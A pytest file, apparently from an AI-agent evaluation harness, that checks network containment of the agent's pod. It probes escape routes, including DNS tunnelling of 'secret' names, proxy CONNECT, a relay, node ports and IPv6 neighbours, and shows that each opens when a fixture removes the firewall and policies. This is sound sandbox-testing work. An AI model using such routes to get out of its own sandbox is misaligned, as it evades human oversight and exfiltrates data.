"""The way out, attacked from the agent's pod: each way that is closed is first shown to be one."""

import asyncio
import contextlib
import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.support.network import MODEL, OPEN, node_address, reach

from incident_arena import proc, wait
from incident_arena.episode.way_out import DNS
from incident_arena.harbor.ending import NAMES_FILE, keep_names
from incident_arena.node.way_out import first_process

pytestmark = [pytest.mark.episode, pytest.mark.timeout(600)]
ASK = """
import http.client, json, ssl, socket, sys
address, name, host, path = json.loads(sys.argv[1])
context = ssl.create_default_context()
context.check_hostname = False
raw = socket.create_connection((address, 443), timeout=20)
connection = http.client.HTTPSConnection(address)
connection.sock = context.wrap_socket(raw, server_hostname=name)
body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "Is it so?"}], "max_tokens": 9})
connection.request("POST", path, body, {"Host": host, "x-api-key": "k", "content-type": "application/json"})
answer = connection.getresponse()
print(json.dumps([answer.status, answer.read().decode()]))
"""
CONNECT = """
import json, socket, sys
host, port, target, token = json.loads(sys.argv[1])
try:
    s = socket.create_connection((host, port), timeout=4)
    s.settimeout(8)
    head = f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n"
    s.sendall((head + (f"Proxy-Authorization: Bearer {token}\\r\\n" if token else "") + "\\r\\n").encode())
    said = s.recv(200).decode("latin-1").split()
    print(json.dumps(said[1] if len(said) > 1 else "closed"))
except OSError as error:
    print(json.dumps(type(error).__name__))
"""
QUERY = """
import json, socket, struct, sys
server, name, kind = json.loads(sys.argv[1])
query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
query += b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\\0" + struct.pack(">HH", kind, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(4)
try:
    s.sendto(query, (server, 53))
    answer = s.recv(2000)
    print(json.dumps([answer[3] & 15, struct.unpack(">H", answer[6:8])[0]]))
except OSError as error:
    print(json.dumps(type(error).__name__))
"""
NEIGHBOURS = """
import json, socket, sys
addresses, port = json.loads(sys.argv[1])
opened = 0
for address in addresses:
    s = socket.socket(socket.AF_INET6)
    s.settimeout(2)
    try:
        s.connect((address, port, 0, socket.if_nametoindex("eth0")))
        opened += 1
    except OSError:
        pass
print(json.dumps(opened))
"""
EVERYTHING = """
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: everything, namespace: arena}
spec: {podSelector: {}, policyTypes: [Ingress, Egress], ingress: [{}], egress: [{}]}
"""
NO_FIREWALL = """
delete table inet arena
table ip arena-off {{
  chain postrouting {{
    type nat hook postrouting priority 100; policy accept;
    oifname "eth0" ip saddr {pod} masquerade
  }}
}}
"""
PORT = 9999
NXDOMAIN = [3, 0]
BAD_GATEWAY = 502
FILTER, CLUSTER_DNS = "10.96.0.53", "10.96.0.10"
A, TXT = 1, 16


def ask(deployed, name: str = MODEL, host: str = "", path: str = "/v1/messages"):
    status, body = deployed.python("agent", ASK, json.dumps(["tls-gateway", name, host or name, path]))
    return status, body


def connect(deployed, pod: str, host: str, port: int, target: str, token: str = "") -> str:
    return deployed.python(pod, CONNECT, json.dumps([host, port, target, token]))


def query(deployed, pod: str, server: str, name: str, kind: int = A):
    return deployed.python(pod, QUERY, json.dumps([server, name, kind]))


def token(deployed) -> str:
    (word,) = deployed.secret_words()["egress-proxy"]
    return word


def test_a_model_on_this_machine_answers(deployed) -> None:
    said = deployed.agent(
        f"curl -sS --fail -H 'x-api-key: k' -H 'content-type: application/json' https://{MODEL}/v1/messages "
        """-d '{"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "Is it so?"}]}'"""
    )
    assert said.exit == 0, said.stderr
    assert json.loads(said.stdout)["type"] == "message"


def test_the_gateway_tells_what_was_asked_and_no_key(deployed) -> None:
    assert ask(deployed)[0] == 200
    log = deployed.in_pod("tls-gateway", "cat", "/log/calls.jsonl").stdout
    last = json.loads(log.splitlines()[-1])
    assert (last["host"], last["status"], last["model_call"], last["allowed"]) == (MODEL, 200, True, True)
    assert deployed.agent("curl -sS -H 'x-api-key: so-secret' https://" + MODEL + "/v1/models").exit == 0
    assert "so-secret" not in deployed.in_pod("tls-gateway", "cat", "/log/calls.jsonl").stdout


@pytest.mark.parametrize(
    ("name", "host"), [(MODEL, "other.arena.internal"), ("example.com", MODEL), ("example.com", "")]
)
def test_host_and_name_must_agree_and_be_allowed(deployed, name: str, host: str) -> None:
    assert ask(deployed)[0] == 200
    assert ask(deployed, "other.arena.internal")[0] == BAD_GATEWAY  # on the list: it is sent on, and nothing is there
    status, body = ask(deployed, name, host)
    assert (status, "allow-list" in body) == (403, True)


def test_names_are_those_of_the_cluster_and_of_the_model_and_no_others(deployed) -> None:
    assert query(deployed, "agent", FILTER, "edge.arena.svc.cluster.local")[0] == 0
    assert query(deployed, "agent", FILTER, MODEL)[1] >= 1
    for name in ("example.com", f"secret-in-a-name.{MODEL}", "secret.example.com", "arena.internal"):
        assert query(deployed, "agent", FILTER, name)[1] == 0
        assert query(deployed, "agent", FILTER, name, TXT)[1] == 0
    assert query(deployed, "agent", FILTER, "secret.example.com") == NXDOMAIN


def test_a_name_that_was_not_found_is_kept_with_the_trial(deployed, tmp_path: Path) -> None:
    before = asyncio.run(keep_names(deployed.kube, DNS, tmp_path)).get("looked-up.example.org", 0)
    assert query(deployed, "agent", FILTER, "Looked-Up.example.org") == NXDOMAIN
    assert query(deployed, "agent", FILTER, "edge.arena.svc.cluster.local")[0] == 0

    def kept() -> tuple[bool, str]:
        names = asyncio.run(keep_names(deployed.kube, DNS, tmp_path))
        return names.get("looked-up.example.org") == before + 1, str(names)

    wait.until("the filter's log holds the name", kept, deadline_s=10)
    names = json.loads((tmp_path / NAMES_FILE).read_text())
    assert not any(name.endswith("cluster.local") for name in names)


def test_the_clusters_own_name_server_is_no_way_round(deployed) -> None:
    assert query(deployed, "load", CLUSTER_DNS, "edge.arena.svc.cluster.local") == [0, 1]
    assert query(deployed, "agent", CLUSTER_DNS, "edge.arena.svc.cluster.local") == "TimeoutError"


def test_connect_leads_nowhere(deployed) -> None:
    target = f"127.0.0.1:{deployed.model.port}"
    assert connect(deployed, "tls-gateway", "egress-proxy", 3128, target) == "200"
    assert connect(deployed, "tls-gateway", "egress-proxy", 3128, "127.0.0.1:22") == "403"
    assert connect(deployed, "agent", "egress-proxy", 3128, target).endswith("Error")
    assert connect(deployed, "agent", "tls-gateway", 443, target) != "200"


def test_the_relay_serves_the_egress_proxy_alone(deployed) -> None:
    host, port = deployed.relay
    target = f"127.0.0.1:{deployed.model.port}"
    assert connect(deployed, "egress-proxy", host, port, target, token(deployed)) == "200"
    assert connect(deployed, "egress-proxy", host, port, target) == "407"
    assert connect(deployed, "egress-proxy", host, port, "127.0.0.1:22", token(deployed)) == "403"
    for pod in ("agent", "tls-gateway", "load", "admin"):
        assert connect(deployed, pod, host, port, target, token(deployed)).endswith("Error"), pod


def test_the_egress_proxy_has_this_one_port_and_no_other(deployed) -> None:
    host, port = deployed.relay
    node = node_address(deployed)
    closed = [(host, 22), (host, 80), (host, port + 1), (node, 6443), (node, 10250), ("192.0.2.1", 443)]
    found = reach(deployed, "egress-proxy", [(host, port), *closed])
    assert found.pop(f"{host}:{port}") == "open"
    assert "open" not in found.values()


def test_there_is_no_other_internet_protocol(deployed) -> None:
    seen = deployed.agent("cat /proc/net/if_inet6 2>/dev/null | grep -v ' lo$' | awk '$4 != \"20\"'")
    assert seen.stdout.strip() == ""  # no address but the links' own, which no route leads from


class Tunnel:
    """A name server on this machine, at the end of a tunnel: it keeps the names it was asked for and denies them."""

    def __init__(self, address: str) -> None:
        self.names: list[bytes] = []
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((address, 53))

    def serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                query, client = self.socket.recvfrom(2000)
                if not query:  # shut down
                    return
                self.names.append(query[12:])
                self.socket.sendto(query[:2] + b"\x81\x83" + query[4:], client)


@pytest.fixture
def tunnel(deployed) -> Iterator[Tunnel]:
    made = Tunnel(deployed.relay[0])
    thread = threading.Thread(target=made.serve)
    thread.start()
    try:
        yield made
    finally:
        with contextlib.suppress(OSError):
            made.socket.shutdown(socket.SHUT_RDWR)
        made.socket.close()
        thread.join()


def in_node(deployed, *argv: str, stdin: str = "") -> str:
    """Run a program of this machine on the node's network."""
    net = f"--net=/proc/{first_process(deployed.node)}/ns/net"
    return proc.run(["nsenter", net, *argv], deadline_s=20, stdin=stdin).stdout


@contextlib.contextmanager
def defences_off(deployed) -> Iterator[None]:
    """Without the policies and the node's firewall, and with a way back to the agent's pod."""
    agent = deployed.get("pods/agent")["status"]["podIP"]
    firewall = in_node(deployed, "nft", "list", "table", "inet", "arena")
    policy = [*deployed.kube._kubectl, "delete", "networkpolicy", "everything", "--ignore-not-found"]
    asyncio.run(deployed.kube.apply(EVERYTHING))
    in_node(deployed, "nft", "-f", "-", stdin=NO_FIREWALL.format(pod=agent))
    try:
        yield
    finally:
        in_node(deployed, "nft", "-f", "-", stdin=f"delete table ip arena-off\n{firewall}")
        proc.run(policy, deadline_s=20, env=proc.DIRECT)


@pytest.fixture
def listener(deployed) -> Iterator[list[str]]:
    """A server of the node's that any address of it answers; the addresses of its ends of pods' links."""
    server = f"socket.create_server(('::', {PORT}), family=socket.AF_INET6, dualstack_ipv6=True)"
    code = f"import socket\nserver = {server}\nwhile True: server.accept()"
    net = f"--net=/proc/{first_process(deployed.node)}/ns/net"
    process = subprocess.Popen(["nsenter", net, "python3", "-c", code])
    try:
        links = json.loads(in_node(deployed, "ip", "-j", "-6", "addr"))
        yield [one["local"] for link in links if link["ifname"].startswith("veth") for one in link["addr_info"]]
    finally:
        process.kill()
        process.wait(10)


def test_each_way_is_one_without_its_defences_and_none_with_them(deployed, tunnel: Tunnel, listener: list[str]) -> None:
    host, port = deployed.relay
    target = f"127.0.0.1:{deployed.model.port}"
    name = "edge.arena.svc.cluster.local"
    node = node_address(deployed)

    def ways() -> dict[str, bool]:
        tunnel.names.clear()
        query(deployed, "agent", host, "secret.example.com")
        direct = reach(deployed, "agent", [(host, port), (node, 6443), (node, PORT)])
        return {
            "a tunnel of names": any(b"secret" in one for one in tunnel.names),
            "the cluster's names": query(deployed, "agent", CLUSTER_DNS, name) == [0, 1],
            "CONNECT to the egress proxy": connect(deployed, "agent", "egress-proxy", 3128, target) == "200",
            "the relay": connect(deployed, "agent", host, port, target, token(deployed)) == "200",
            "the other protocol": deployed.python("agent", NEIGHBOURS, json.dumps([listener, PORT])) == 1,
            **{f"direct {place}": said == "open" for place, said in direct.items()},
        }

    def all_are(opened: bool):  # noqa: FBT001  a test's own
        def probe() -> tuple[bool, str]:
            seen = ways()
            return set(seen.values()) == {opened}, str(seen)

        return probe

    wait.until("every way is closed", all_are(False), deadline_s=60)
    with defences_off(deployed):
        wait.until("every way is open", all_are(True), deadline_s=60)
    wait.until("every way is closed again", all_are(False), deadline_s=60)


def label(deployed, value: str) -> None:
    change = f"incident-arena.io/frozen={value}" if value else "incident-arena.io/frozen-"
    proc.run([*deployed.kube._kubectl, "label", "pod", "agent", "--overwrite", change], deadline_s=20, env=proc.DIRECT)


def test_after_the_declaration_only_the_model_is_left_and_then_nothing(deployed) -> None:
    def state() -> tuple[set[str], bool]:
        model = reach(deployed, "agent", [("tls-gateway", 443)])
        return set(reach(deployed, "agent", OPEN).values()), "open" in model.values()

    def is_so(closed: bool, model: bool):  # noqa: FBT001  a test's own
        def probe() -> tuple[bool, str]:
            seen, answers = state()
            return ("open" not in seen) == closed and answers == model, f"{seen}, model {answers}"

        return probe

    wait.until("all is open", is_so(False, True), deadline_s=30)
    try:
        label(deployed, "declared")
        wait.until("only the model answers", is_so(True, True), deadline_s=30)
        label(deployed, "ended")
        wait.until("nothing answers", is_so(True, False), deadline_s=30)
    finally:
        label(deployed, "")
    wait.until("all is open again", is_so(False, True), deadline_s=30)
